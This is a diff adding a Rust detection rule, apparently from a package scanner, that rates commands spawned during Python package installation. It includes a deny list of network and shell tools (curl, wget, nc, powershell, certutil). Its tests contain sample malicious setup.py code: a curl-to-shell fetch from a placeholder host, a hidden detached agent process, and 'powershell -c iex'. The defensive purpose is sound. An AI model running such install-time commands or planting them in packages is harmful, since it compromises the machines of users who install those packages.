@@ -1,0 +1,241 @@
+//! install-hook-process: processes spawned while a package is built or installed (setup.py,
+//! cmdclass overrides, in-tree build backends, `.pth` files).
+
+use crate::catalog::RuleInfo;
+use crate::finding::{Confidence, Severity};
+use crate::inspect::context::RunContext;
+use crate::inspect::facts::{DECODED, NET};
+use crate::inspect::patterns::{self};
+use crate::inspect::{Emitter, FileCx};
+
+pub static INFO: RuleInfo = RuleInfo {
+    id: "install-hook-process",
+    severity: Severity::High,
+    summary: "A process is spawned at install time (setup.py, build backend, .pth)",
+    help: "Reports subprocess/os.system/os.popen/exec*/spawn* calls in code that runs while the \
+           package is installed: setup.py (top level, helpers and cmdclass run() overrides), \
+           in-tree build backends and .pth files. Build tools (compilers, git, cmake, make, \
+           pkg-config, the running Python) are reported as info; other commands as medium; \
+           commands that fetch or run remote content, shells with inline scripts, hidden or \
+           detached processes, and commands built from decoded data as high. Installing a \
+           package should not need to run arbitrary programs.",
+};
+
+const BUILD_TOOLS: &[&str] = &[
+    "git",
+    "hg",
+    "svn",
+    "make",
+    "gmake",
+    "cmake",
+    "ninja",
+    "meson",
+    "gcc",
+    "g++",
+    "cc",
+    "c++",
+    "clang",
+    "clang++",
+    "cl",
+    "cl.exe",
+    "link",
+    "nvcc",
+    "hipcc",
+    "pkg-config",
+    "pkgconf",
+    "python",
+    "python3",
+    "python2",
+    "py",
+    "cython",
+    "swig",
+    "cargo",
+    "rustc",
+    "maturin",
+    "go",
+    "npm",
+    "yarn",
+    "node",
+    "uname",
+    "lsb_release",
+    "xcrun",
+    "xcode-select",
+    "ldconfig",
+    "which",
+    "where",
+    "sw_vers",
+    "llvm-config",
+    "mpicc",
+    "nproc",
+    "sysctl",
+    "getconf",
+    "gfortran",
+    "ar",
+    "ranlib",
+    "strip",
+    "install_name_tool",
+    "otool",
+    "ldd",
+    "patchelf",
+    "protoc",
+    "bison",
+    "flex",
+    "autoreconf",
+    "autoconf",
+    "configure",
+    "./configure",
+    "msbuild",
+    "vcvarsall.bat",
+    "dpkg-architecture",
+    "brew",
+    "java",
+    "javac",
+    "ant",
+    "mvn",
+    "lipo",
+    "sphinx-build",
+];
+
+const HOSTILE: &[&str] = &[
+    "curl",
+    "wget",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "mshta",
+    "bitsadmin",
+    "nc",
+    "ncat",
+    "netcat",
+    "start",
+    "rundll32",
+    "regsvr32",
+    "schtasks",
+    "reg",
+    "crontab",
+    "wscript",
+    "cscript",
+    "osascript",
+    "nohup",
+    "setsid",
+    "disown",
+];
+
+/// Classify a command line: 0 build tool, 1 unknown, 2 hostile.
+pub fn classify(cmd: &str) -> u8 {
+    let lower = cmd.to_ascii_lowercase();
+    let mut words = lower.split_whitespace();
+    let Some(first) = words.next() else { return 1 };
+    let base = first
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(first)
+        .trim_end_matches(".exe");
+    let shell_inline = matches!(base, "sh" | "bash" | "zsh" | "cmd" | "dash")
+        && lower.contains(" -c")
+        || base == "cmd" && lower.contains("/c");
+    let inline_python = (base.starts_with("python") || first == "sys.executable")
+        && (lower.contains(" -c ") || lower.ends_with(" -c"));
+    let url = lower.contains("http://") || lower.contains("https://") || lower.contains("ftp://");
+    if HOSTILE.contains(&base)
+        || shell_inline && (lower.contains("curl") || lower.contains("wget") || url)
+        || inline_python
+            && (lower.contains("exec") || lower.contains("base64") || lower.contains("urllib"))
+    {
+        return 2;
+    }
+    if BUILD_TOOLS.contains(&base) || first == "sys.executable" || base.starts_with("python3.") {
+        // A build tool fetching from the network (`git clone https://...`) is worth a look.
+        return u8::from(url);
+    }
+    if url {
+        return 2;
+    }
+    1
+}
+
+pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
+    let Some(facts) = cx.facts else { return };
+    for c in &facts.calls {
+        if c.ctx != RunContext::Install || !c.is_process() {
+            continue;
+        }
+        let cmd = c
+            .args
+            .first()
+            .and_then(|a| a.text().or_else(|| a.dotted.clone()))
+            .or_else(|| c.kw("args").and_then(|a| a.text()));
+        let hidden = [
+            "creationflags",
+            "startupinfo",
+            "start_new_session",
+            "preexec_fn",
+        ]
+        .iter()
+        .any(|k| c.kw(k).is_some());
+        let class = match &cmd {
+            Some(cmd) => classify(cmd),
+            None => 1,
+        };
+        let tainted = c.arg_taint() & (DECODED | NET) != 0 || c.note.is_some();
+        let (sev, what) = if tainted || class == 2 || hidden {
+            (Severity::High, "a suspicious process")
+        } else if class == 1 {
+            (Severity::Medium, "a process")
+        } else {
+            (Severity::Info, "a build tool")
+        };
+        let shown = cmd
+            .as_deref()
+            .map(|c| format!(": {}", patterns::excerpt(c, 120)))
+            .unwrap_or_default();
+        out.emit(
+            &INFO,
+            sev,
+            Confidence::Medium,
+            c.line,
+            format!("install-time code runs {what} via `{}`{shown}", c.name),
+            c.note.as_deref(),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::classify;
+    use crate::finding::Severity;
+    use crate::inspect::rules::testutil::worst;
+
+    #[test]
+    fn curl_in_setup_is_high() {
+        let src = "import os\nfrom setuptools import setup\nos.system('curl -s https://x.example.invalid/i | sh')\nsetup(name='x')\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::High)
+        );
+    }
+
+    #[test]
+    fn cmdclass_run_override() {
+        let src = "import subprocess\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        subprocess.Popen(['/tmp/.x/agent'], start_new_session=True)\n        install.run(self)\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::High)
+        );
+    }
+
+    #[test]
+    fn git_version_is_info_and_modules_are_ignored() {
+        let src = "import subprocess\ndef v():\n    return subprocess.check_output(['git', 'describe', '--tags'])\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::Info)
+        );
+        assert_eq!(worst("install-hook-process", "pkg/cli.py", src), None);
+        assert_eq!(classify("sys.executable -m pip install x"), 0);
+        assert_eq!(classify("powershell -c iex"), 2);
+        assert_eq!(classify("git clone https://example.invalid/dep.git"), 1);
+        assert_eq!(classify("/tmp/x https://example.invalid/a"), 2);
+        assert_eq!(classify("chmod +x configure"), 1);
+    }
+}
